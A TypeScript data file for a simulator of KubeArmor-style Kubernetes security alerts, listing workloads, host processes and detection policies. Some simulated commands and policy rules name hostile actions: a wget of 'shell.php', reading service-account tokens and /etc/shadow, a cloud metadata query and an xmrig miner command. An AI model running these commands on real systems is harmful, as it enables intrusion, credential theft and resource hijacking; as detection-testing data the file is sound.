/**
 * Static realism data for the generator: workloads (what runs in pods and what it touches),
 * host processes, cluster services and the security policies that produce alerts.
 * Shapes follow shared/reference/kubearmor.md §2 (values modelled on KubeArmor's docs and code).
 */

export type OwnerKind = 'Deployment' | 'StatefulSet' | 'DaemonSet' | 'CronJob'

export interface ProcessSpec {
  readonly path: string
  readonly cmdline: string
  readonly uid: number
}

export interface PeerSpec {
  /** A cluster service key (`svc/<ns>/<name>`), a workload (`app/<name>`) or a literal IP. */
  readonly target: string
  readonly port: number
  readonly protocol: 'TCP' | 'UDP'
}

export interface WorkloadSpec {
  readonly app: string
  readonly namespace: string
  readonly owner: OwnerKind
  readonly labels: string
  readonly container: string
  readonly image: string
  readonly main: ProcessSpec
  /** Long-lived children of the main process (e.g. nginx workers); file/network events come from these too. */
  readonly workers: readonly ProcessSpec[]
  readonly cwd: string
  readonly shell: string
  readonly files: readonly string[]
  /** Paths the app probes that do not exist (logs with `No such file or directory`). */
  readonly missing: readonly string[]
  /** Non-interactive execs (probes, hooks): path plus args. */
  readonly execs: readonly string[]
  /** Commands someone types in `kubectl exec -it ... -- <shell>` (TTY pts0). */
  readonly interactive: readonly string[]
  readonly peers: readonly PeerSpec[]
  readonly listenPort?: number
}

const CONTAINERD_SHIM = '/usr/bin/containerd-shim-runc-v2'
export const SHIM_PATH = CONTAINERD_SHIM

const COMMON_FILES = ['/etc/ld.so.cache', '/lib/x86_64-linux-gnu/libc.so.6', '/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf', '/etc/localtime']

/** Ordered so the default 8 pods cover the most interesting workloads. */
export const WORKLOADS: readonly WorkloadSpec[] = [
  {
    app: 'nginx',
    namespace: 'default',
    owner: 'Deployment',
    labels: 'app=nginx',
    container: 'nginx',
    image: 'docker.io/library/nginx:1.25.3',
    main: { path: '/usr/sbin/nginx', cmdline: '/usr/sbin/nginx -g daemon off;', uid: 0 },
    workers: [{ path: '/usr/sbin/nginx', cmdline: '/usr/sbin/nginx -g daemon off;', uid: 101 }],
    cwd: '/',
    shell: '/bin/bash',
    files: [...COMMON_FILES, '/etc/nginx/nginx.conf', '/etc/nginx/conf.d/default.conf', '/usr/share/nginx/html/index.html', '/var/log/nginx/access.log', '/var/cache/nginx/client_temp', '/etc/nginx/mime.types'],
    missing: ['/usr/share/nginx/html/favicon.ico', '/usr/share/nginx/html/robots.txt'],
    execs: ['/bin/sh -c curl -sf http://localhost/healthz'],
    interactive: ['/usr/bin/ls -la /etc/nginx', '/usr/bin/cat /etc/nginx/nginx.conf', '/usr/bin/curl -s http://localhost', '/usr/bin/ps aux'],
    peers: [{ target: 'svc/kube-system/kube-dns', port: 53, protocol: 'UDP' }],
    listenPort: 80
  },
  {
    app: 'wordpress',
    namespace: 'wordpress-mysql',
    owner: 'Deployment',
    labels: 'app=wordpress',
    container: 'wordpress',
    image: 'docker.io/library/wordpress:4.8-apache',
    main: { path: '/usr/sbin/apache2', cmdline: '/usr/sbin/apache2 -DFOREGROUND', uid: 0 },
    workers: [{ path: '/usr/sbin/apache2', cmdline: '/usr/sbin/apache2 -DFOREGROUND', uid: 33 }, { path: '/usr/sbin/apache2', cmdline: '/usr/sbin/apache2 -DFOREGROUND', uid: 33 }],
    cwd: '/var/www/html/',
    shell: '/bin/bash',
    files: [...COMMON_FILES, '/var/www/html/index.php', '/var/www/html/wp-config.php', '/var/www/html/wp-load.php', '/var/www/html/wp-includes/version.php', '/var/www/html/wp-content/plugins/akismet/akismet.php', '/etc/apache2/apache2.conf', '/usr/local/etc/php/php.ini', '/tmp/sess_5f1b2c'],
    missing: ['/var/www/html/.htaccess', '/var/www/html/wp-content/object-cache.php'],
    execs: ['/bin/sh -c php -v'],
    interactive: ['/usr/bin/apt update', '/usr/bin/apt-get install -y curl', '/bin/ls -l /var/www/html', '/bin/cat wp-config.php', '/usr/bin/wget http://example.com/shell.php'],
    peers: [{ target: 'svc/wordpress-mysql/mysql', port: 3306, protocol: 'TCP' }, { target: 'svc/kube-system/kube-dns', port: 53, protocol: 'UDP' }, { target: '198.143.164.252', port: 443, protocol: 'TCP' }],
    listenPort: 80
  },
  {
    app: 'mysql',
    namespace: 'wordpress-mysql',
    owner: 'Deployment',
    labels: 'app=mysql',
    container: 'mysql',
    image: 'docker.io/library/mysql:5.6',
    main: { path: '/usr/sbin/mysqld', cmdline: '/usr/sbin/mysqld', uid: 999 },
    workers: [],
    cwd: '/',
    shell: '/bin/bash',
    files: [...COMMON_FILES, '/var/lib/mysql/ibdata1', '/var/lib/mysql/ib_logfile0', '/var/lib/mysql/wordpress/wp_posts.ibd', '/var/lib/mysql/wordpress/wp_options.ibd', '/etc/mysql/my.cnf', '/var/run/mysqld/mysqld.sock'],
    missing: ['/etc/mysql/conf.d/docker.cnf.bak'],
    execs: ['/bin/sh -c mysqladmin ping -h 127.0.0.1'],
    interactive: ['/usr/bin/mysql -u root -p', '/bin/touch /sbin/file', '/bin/ls /var/lib/mysql'],
    peers: [],
    listenPort: 3306
  },
  {
    app: 'vault',
    namespace: 'vault',
    owner: 'StatefulSet',
    labels: 'app.kubernetes.io/instance=vault,app.kubernetes.io/name=vault,component=server',
    container: 'vault',
    image: 'docker.io/hashicorp/vault:1.15.2',
    main: { path: '/bin/vault', cmdline: '/bin/vault server -config=/vault/config/extraconfig-from-values.hcl', uid: 100 },
    workers: [],
    cwd: '/',
    shell: '/bin/sh',
    files: [...COMMON_FILES, '/vault/config/extraconfig-from-values.hcl', '/vault/data/core/_keyring', '/vault/data/sys/token/id/h1a2b3', '/vault/logs/audit.log', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    missing: ['/vault/data/core/_migration'],
    execs: ['/bin/sh -ec vault status -tls-skip-verify'],
    interactive: ['/bin/vault login', '/bin/cat /vault/config/extraconfig-from-values.hcl'],
    peers: [{ target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }, { target: 'svc/kube-system/kube-dns', port: 53, protocol: 'UDP' }],
    listenPort: 8200
  },
  {
    app: 'coredns',
    namespace: 'kube-system',
    owner: 'Deployment',
    labels: 'k8s-app=kube-dns',
    container: 'coredns',
    image: 'registry.k8s.io/coredns/coredns:v1.11.1',
    main: { path: '/coredns', cmdline: '/coredns -conf /etc/coredns/Corefile', uid: 0 },
    workers: [],
    cwd: '/',
    shell: '/bin/sh',
    files: ['/etc/coredns/Corefile', '/etc/resolv.conf', '/etc/hosts', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt'],
    missing: [],
    execs: [],
    interactive: [],
    peers: [{ target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }, { target: '8.8.8.8', port: 53, protocol: 'UDP' }],
    listenPort: 53
  },
  {
    app: 'checkout',
    namespace: 'payments',
    owner: 'Deployment',
    labels: 'app=checkout,tier=backend,version=v2',
    container: 'checkout',
    image: 'ghcr.io/acme/checkout:2.4.1',
    main: { path: '/usr/local/bin/node', cmdline: '/usr/local/bin/node /app/server.js', uid: 1000 },
    workers: [],
    cwd: '/app/',
    shell: '/bin/sh',
    files: [...COMMON_FILES, '/app/server.js', '/app/package.json', '/app/node_modules/express/index.js', '/app/config/production.json', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/tmp/checkout-cache.json'],
    missing: ['/app/.env', '/app/node_modules/fsevents/package.json'],
    execs: ['/bin/sh -c wget -qO- http://localhost:8080/ready'],
    interactive: ['/bin/ls /app', '/usr/bin/env', '/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token', '/usr/bin/nc -zv postgres 5432'],
    peers: [{ target: 'svc/payments/postgres', port: 5432, protocol: 'TCP' }, { target: 'svc/default/redis', port: 6379, protocol: 'TCP' }, { target: 'svc/kube-system/kube-dns', port: 53, protocol: 'UDP' }, { target: '104.16.24.34', port: 443, protocol: 'TCP' }],
    listenPort: 8080
  },
  {
    app: 'postgres',
    namespace: 'payments',
    owner: 'StatefulSet',
    labels: 'app=postgres',
    container: 'postgres',
    image: 'docker.io/library/postgres:16.1',
    main: { path: '/usr/lib/postgresql/16/bin/postgres', cmdline: '/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/data', uid: 999 },
    workers: [{ path: '/usr/lib/postgresql/16/bin/postgres', cmdline: 'postgres: checkpointer', uid: 999 }, { path: '/usr/lib/postgresql/16/bin/postgres', cmdline: 'postgres: checkout payments 10.244.1.9(51822) idle', uid: 999 }],
    cwd: '/var/lib/postgresql/data/',
    shell: '/bin/bash',
    files: [...COMMON_FILES, '/var/lib/postgresql/data/base/16384/2619', '/var/lib/postgresql/data/pg_wal/000000010000000000000001', '/var/lib/postgresql/data/postgresql.conf', '/var/lib/postgresql/data/pg_hba.conf', '/var/run/postgresql/.s.PGSQL.5432'],
    missing: ['/var/lib/postgresql/data/recovery.signal'],
    execs: ['/bin/sh -c pg_isready -U postgres'],
    interactive: ['/usr/bin/psql -U postgres', '/bin/cat /var/lib/postgresql/data/pg_hba.conf'],
    peers: [],
    listenPort: 5432
  },
  {
    app: 'redis',
    namespace: 'default',
    owner: 'StatefulSet',
    labels: 'app=redis,role=cache',
    container: 'redis',
    image: 'docker.io/library/redis:7.2.3',
    main: { path: '/usr/local/bin/redis-server', cmdline: '/usr/local/bin/redis-server *:6379', uid: 999 },
    workers: [],
    cwd: '/data/',
    shell: '/bin/sh',
    files: [...COMMON_FILES, '/data/dump.rdb', '/data/appendonly.aof', '/usr/local/etc/redis/redis.conf'],
    missing: ['/data/temp-1234.rdb'],
    execs: ['/bin/sh -c redis-cli ping'],
    interactive: ['/usr/local/bin/redis-cli KEYS *', '/bin/ls /data'],
    peers: [],
    listenPort: 6379
  },
  {
    app: 'prometheus',
    namespace: 'monitoring',
    owner: 'StatefulSet',
    labels: 'app.kubernetes.io/name=prometheus,app.kubernetes.io/instance=k8s',
    container: 'prometheus',
    image: 'quay.io/prometheus/prometheus:v2.48.0',
    main: { path: '/bin/prometheus', cmdline: '/bin/prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus', uid: 65534 },
    workers: [],
    cwd: '/prometheus/',
    shell: '/bin/sh',
    files: ['/etc/prometheus/prometheus.yml', '/prometheus/wal/00000042', '/prometheus/chunks_head/000017', '/etc/resolv.conf', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    missing: ['/prometheus/lock'],
    execs: [],
    interactive: ['/bin/ls /prometheus'],
    peers: [{ target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }, { target: 'app/nginx', port: 80, protocol: 'TCP' }, { target: 'app/checkout', port: 8080, protocol: 'TCP' }],
    listenPort: 9090
  },
  {
    app: 'kube-proxy',
    namespace: 'kube-system',
    owner: 'DaemonSet',
    labels: 'k8s-app=kube-proxy',
    container: 'kube-proxy',
    image: 'registry.k8s.io/kube-proxy:v1.29.0',
    main: { path: '/usr/local/bin/kube-proxy', cmdline: '/usr/local/bin/kube-proxy --config=/var/lib/kube-proxy/config.conf --hostname-override=$(NODE_NAME)', uid: 0 },
    workers: [],
    cwd: '/',
    shell: '/bin/sh',
    files: ['/var/lib/kube-proxy/config.conf', '/var/lib/kube-proxy/kubeconfig.conf', '/run/xtables.lock', '/proc/sys/net/ipv4/conf/all/route_localnet'],
    missing: [],
    execs: ['/usr/sbin/iptables-save -t nat', '/usr/sbin/iptables-restore -w 5 -W 100000 --noflush --counters'],
    interactive: [],
    peers: [{ target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }],
    listenPort: 10256
  },
  {
    app: 'db-backup',
    namespace: 'payments',
    owner: 'CronJob',
    labels: 'app=db-backup',
    container: 'backup',
    image: 'docker.io/library/postgres:16.1',
    main: { path: '/bin/sh', cmdline: '/bin/sh -c pg_dump -h postgres payments | gzip > /backup/payments.sql.gz', uid: 999 },
    workers: [{ path: '/usr/lib/postgresql/16/bin/pg_dump', cmdline: '/usr/lib/postgresql/16/bin/pg_dump -h postgres payments', uid: 999 }],
    cwd: '/',
    shell: '/bin/sh',
    files: [...COMMON_FILES, '/backup/payments.sql.gz', '/root/.pgpass'],
    missing: ['/var/lib/postgresql/.pgpass'],
    execs: ['/bin/gzip', '/usr/lib/postgresql/16/bin/pg_dump -h postgres payments'],
    interactive: [],
    peers: [{ target: 'svc/payments/postgres', port: 5432, protocol: 'TCP' }, { target: 'svc/kube-system/kube-dns', port: 53, protocol: 'UDP' }]
  }
]

export interface ServiceSpec { readonly key: string, readonly ip: string, readonly dns: string }

export const SERVICES: readonly ServiceSpec[] = [
  { key: 'svc/default/kubernetes', ip: '10.96.0.1', dns: 'kubernetes.default.svc.cluster.local' },
  { key: 'svc/kube-system/kube-dns', ip: '10.96.0.10', dns: 'kube-dns.kube-system.svc.cluster.local' },
  { key: 'svc/wordpress-mysql/mysql', ip: '10.96.38.112', dns: 'mysql.wordpress-mysql.svc.cluster.local' },
  { key: 'svc/vault/vault', ip: '10.96.101.7', dns: 'vault.vault.svc.cluster.local' },
  { key: 'svc/payments/postgres', ip: '10.96.77.31', dns: 'postgres.payments.svc.cluster.local' },
  { key: 'svc/default/redis', ip: '10.96.54.20', dns: 'redis.default.svc.cluster.local' },
  { key: 'svc/monitoring/prometheus', ip: '10.96.12.90', dns: 'prometheus-k8s.monitoring.svc.cluster.local' }
]

/** Names public IPs resolve from, for DNS (kfunc=UDP_SENDSKB) events. */
export const EXTERNAL_NAMES: Readonly<Record<string, string>> = {
  '198.143.164.252': 'wordpress.org',
  '104.16.24.34': 'registry.npmjs.org',
  '8.8.8.8': 'dns.google',
  '140.82.112.3': 'github.com'
}

export interface HostProcessSpec extends ProcessSpec {
  readonly parent: string
  readonly cwd: string
  readonly files: readonly string[]
  readonly interactive: boolean
  /** Commands run by this process (for interactive shells and cron). */
  readonly execs: readonly string[]
  readonly peers: readonly PeerSpec[]
}

export const HOST_PROCESSES: readonly HostProcessSpec[] = [
  {
    path: '/usr/bin/kubelet',
    cmdline: '/usr/bin/kubelet --bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml',
    uid: 0,
    parent: '/usr/lib/systemd/systemd',
    cwd: '/',
    files: ['/var/lib/kubelet/config.yaml', '/etc/kubernetes/kubelet.conf', '/var/lib/kubelet/pki/kubelet-client-current.pem', '/sys/fs/cgroup/kubepods.slice/cpu.stat', '/proc/meminfo', '/var/lib/kubelet/pods'],
    interactive: false,
    execs: ['/usr/sbin/iptables -w 5 -W 100000 -N KUBE-KUBELET-CANARY -t mangle'],
    peers: [{ target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }]
  },
  {
    path: '/usr/bin/containerd',
    cmdline: '/usr/bin/containerd',
    uid: 0,
    parent: '/usr/lib/systemd/systemd',
    cwd: '/',
    files: ['/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db', '/run/containerd/containerd.sock', '/etc/containerd/config.toml'],
    interactive: false,
    execs: ['/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -address /run/containerd/containerd.sock'],
    peers: []
  },
  {
    path: '/usr/lib/systemd/systemd-journald',
    cmdline: '/lib/systemd/systemd-journald',
    uid: 0,
    parent: '/usr/lib/systemd/systemd',
    cwd: '/',
    files: ['/var/log/journal/4f2a9c1e/system.journal', '/run/log/journal', '/proc/self/status'],
    interactive: false,
    execs: [],
    peers: []
  },
  {
    path: '/usr/bin/bash',
    cmdline: '/usr/bin/bash',
    uid: 1000,
    parent: '/usr/sbin/sshd',
    cwd: '/home/ubuntu/',
    files: ['/home/ubuntu/.bash_history', '/etc/passwd', '/etc/group', '/home/ubuntu/.kube/config'],
    interactive: true,
    execs: ['/usr/bin/sudo crictl ps', '/usr/bin/cat /etc/os-release', '/usr/bin/journalctl -u kubelet --since 10m', '/usr/bin/curl -sk https://10.96.0.1', '/usr/bin/kubectl get pods -A', '/usr/bin/top -b -n 1'],
    peers: [{ target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }]
  },
  {
    path: '/usr/sbin/cron',
    cmdline: '/usr/sbin/cron -f -P',
    uid: 0,
    parent: '/usr/lib/systemd/systemd',
    cwd: '/var/spool/cron/',
    files: ['/etc/crontab', '/var/spool/cron/crontabs/root'],
    interactive: false,
    execs: ['/bin/sh -c cd / && run-parts --report /etc/cron.hourly', '/usr/sbin/logrotate /etc/logrotate.conf'],
    peers: []
  }
]

export const HOST_USERS: Readonly<Record<number, string>> = { 0: 'root', 1000: 'ubuntu', 65534: 'nobody', 999: 'systemd-coredump' }

export type Action = 'Allow' | 'Audit' | 'Block' | 'Audit (Allow)' | 'Audit (Block)'

/** How a policy's matching events look. */
export type PolicyKind =
  | { readonly kind: 'exec', readonly commands: readonly string[], readonly interactive: boolean }
  | { readonly kind: 'file', readonly paths: readonly string[], readonly access: 'read' | 'write' | 'unlink' }
  | { readonly kind: 'socket', readonly resource: string }
  | { readonly kind: 'connect', readonly peers: readonly PeerSpec[] }
  | { readonly kind: 'syscall', readonly data: string, readonly result: string }
  | { readonly kind: 'capability', readonly capability: string }
  | { readonly kind: 'firewall' }

export interface PolicySpec {
  readonly name: string
  readonly scope: 'container' | 'host'
  /** Workloads the policy selects; absent = any container. */
  readonly apps?: readonly string[]
  readonly action: Action
  /** 1..10; absent for DefaultPosture. */
  readonly severity?: number
  readonly tags?: readonly string[]
  readonly message?: string
  /** Relative frequency among alerts. */
  readonly weight: number
  readonly match: PolicyKind
}

export const DEFAULT_POSTURE = 'DefaultPosture'

export const POLICIES: readonly PolicySpec[] = [
  {
    name: 'harden-wordpress-pkg-mngr-exec',
    scope: 'container',
    apps: ['wordpress'],
    action: 'Block',
    severity: 5,
    tags: ['NIST', 'NIST_800-53_CM-7(4)', 'SI-4', 'process'],
    message: 'Alert! Execution of package management process inside container is denied',
    weight: 10,
    match: { kind: 'exec', commands: ['/usr/bin/apt update', '/usr/bin/apt-get install -y curl', '/usr/bin/dpkg -l'], interactive: true }
  },
  {
    name: 'harden-mysql-file-integrity-monitoring',
    scope: 'container',
    apps: ['mysql'],
    action: 'Block',
    severity: 1,
    tags: ['NIST', 'NIST_800-53_AU-2', 'NIST_800-53_SI-4', 'MITRE', 'MITRE_T1036_masquerading', 'MITRE_T1565_data_manipulation'],
    message: 'Detected and prevented compromise to File integrity',
    weight: 8,
    match: { kind: 'file', paths: ['/sbin/file', '/usr/bin/mysql-helper', '/usr/lib/x86_64-linux-gnu/libpam.so.0'], access: 'write' }
  },
  {
    name: 'ksp-vault-network',
    scope: 'container',
    apps: ['vault'],
    action: 'Audit',
    severity: 3,
    tags: ['MITRE', 'MITRE_T1071_application_layer_protocol'],
    message: 'Network access by vault audited',
    weight: 12,
    match: { kind: 'socket', resource: 'domain=AF_INET type=SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=TCP' }
  },
  {
    name: 'audit-sensitive-file-access',
    scope: 'container',
    action: 'Audit',
    severity: 7,
    tags: ['MITRE', 'MITRE_T1003_os_credential_dumping', 'CIS'],
    message: 'Sensitive credential file was read',
    weight: 14,
    match: { kind: 'file', paths: ['/etc/shadow', '/etc/passwd', '/etc/gshadow', '/root/.ssh/authorized_keys'], access: 'read' }
  },
  {
    name: 'block-service-account-token',
    scope: 'container',
    apps: ['checkout', 'nginx', 'wordpress'],
    action: 'Block',
    severity: 8,
    tags: ['MITRE', 'MITRE_T1528_steal_application_access_token', 'NIST_800-53_AC-6'],
    message: 'Access to the service account token is denied',
    weight: 6,
    match: { kind: 'file', paths: ['/var/run/secrets/kubernetes.io/serviceaccount/token', '/run/secrets/kubernetes.io/serviceaccount/token'], access: 'read' }
  },
  {
    name: 'ksp-payments-shell-exec',
    scope: 'container',
    apps: ['checkout', 'postgres', 'db-backup'],
    action: 'Audit (Block)',
    severity: 4,
    tags: ['MITRE', 'MITRE_T1059_command_and_scripting_interpreter'],
    message: 'Shell execution in payments (audit mode)',
    weight: 6,
    match: { kind: 'exec', commands: ['/bin/sh', '/bin/bash -i', '/bin/ls /app'], interactive: true }
  },
  {
    name: 'ksp-block-raw-socket',
    scope: 'container',
    action: 'Block',
    severity: 2,
    tags: ['CIS', 'CIS_5.2.7'],
    message: 'Raw socket creation is denied',
    weight: 3,
    match: { kind: 'capability', capability: 'CAP_NET_RAW' }
  },
  {
    name: 'audit-setuid',
    scope: 'container',
    action: 'Audit',
    severity: 6,
    tags: ['MITRE', 'MITRE_T1548_abuse_elevation_control_mechanism'],
    message: 'setuid syscall audited',
    weight: 5,
    match: { kind: 'syscall', data: 'syscall=SYS_SETUID userid=0', result: 'Passed' }
  },
  {
    name: 'ksp-redis-egress-allow',
    scope: 'container',
    apps: ['redis', 'prometheus'],
    action: 'Allow',
    severity: 2,
    tags: ['network'],
    message: 'Allowed egress connection',
    weight: 3,
    match: { kind: 'connect', peers: [{ target: 'svc/kube-system/kube-dns', port: 53, protocol: 'UDP' }, { target: 'svc/default/kubernetes', port: 443, protocol: 'TCP' }] }
  },
  {
    name: 'ksp-crypto-miner-exec',
    scope: 'container',
    action: 'Block',
    severity: 10,
    tags: ['MITRE', 'MITRE_T1496_resource_hijacking'],
    message: 'Execution of a crypto miner was denied',
    weight: 1,
    match: { kind: 'exec', commands: ['/tmp/xmrig --donate-level 1 -o pool.minexmr.com:443', '/dev/shm/kdevtmpfsi'], interactive: false }
  },
  {
    name: 'netpol-deny-egress-external',
    scope: 'container',
    apps: ['checkout', 'wordpress'],
    action: 'Block',
    severity: 9,
    tags: ['network', 'egress'],
    message: 'Egress to an external address was denied',
    weight: 2,
    match: { kind: 'firewall' }
  },
  {
    name: DEFAULT_POSTURE,
    scope: 'container',
    action: 'Block',
    weight: 12,
    match: { kind: 'exec', commands: ['/usr/bin/ls', '/usr/bin/curl http://169.254.169.254/latest/meta-data', '/usr/bin/whoami'], interactive: true }
  },
  {
    name: DEFAULT_POSTURE,
    scope: 'container',
    action: 'Audit',
    weight: 6,
    match: { kind: 'file', paths: ['/root/.bash_history', '/etc/hostname', '/proc/self/environ'], access: 'read' }
  },
  {
    name: DEFAULT_POSTURE,
    scope: 'host',
    action: 'Block',
    weight: 4,
    match: { kind: 'syscall', data: 'syscall=SYS_SETUID userid=0', result: 'Operation not permitted' }
  },
  {
    name: 'hsp-audit-kube-config',
    scope: 'host',
    action: 'Audit',
    severity: 5,
    tags: ['NIST', 'NIST_800-53_AC-3', 'host'],
    message: 'Kubernetes credentials on the node were read',
    weight: 5,
    match: { kind: 'file', paths: ['/etc/kubernetes/admin.conf', '/etc/kubernetes/pki/ca.key', '/var/lib/kubelet/pki/kubelet-client-current.pem'], access: 'read' }
  },
  {
    name: 'hsp-block-host-pkg-mngr',
    scope: 'host',
    action: 'Block',
    severity: 6,
    tags: ['NIST', 'NIST_800-53_CM-7(4)', 'host'],
    message: 'Package manager execution on the node is denied',
    weight: 3,
    match: { kind: 'exec', commands: ['/usr/bin/apt-get install -y netcat', '/usr/bin/snap install kubectl'], interactive: true }
  }
]

export const KUBEARMOR_VERSION = 'v1.6.3'

export type MessageLevel = 'INFO' | 'DEBUG' | 'WARN' | 'ERROR'

/** Daemon log lines (sent on WatchMessages only with --debug). `{pod}`, `{ns}`, `{cid}`, `{policy}` are filled in. */
export const MESSAGES: ReadonlyArray<readonly [MessageLevel, string, number]> = [
  ['INFO', 'Detected a Pod (updated/{ns}/{pod})', 20],
  ['INFO', 'Detected a container (added/{ns}/{pod}/{cid})', 8],
  ['INFO', 'Updated security policy ({policy})', 10],
  ['INFO', 'Started to monitor system events', 2],
  ['DEBUG', 'Pushing Telemetry without source', 20],
  ['DEBUG', 'Updated Apparmor profiles for {ns}/{pod}', 10],
  ['WARN', 'Failed to get the container info ({cid})', 4],
  ['WARN', 'log channel busy, 10000 logs dropped.', 1],
  ['ERROR', 'Failed to read the exec path of process ({cid})', 1]
]
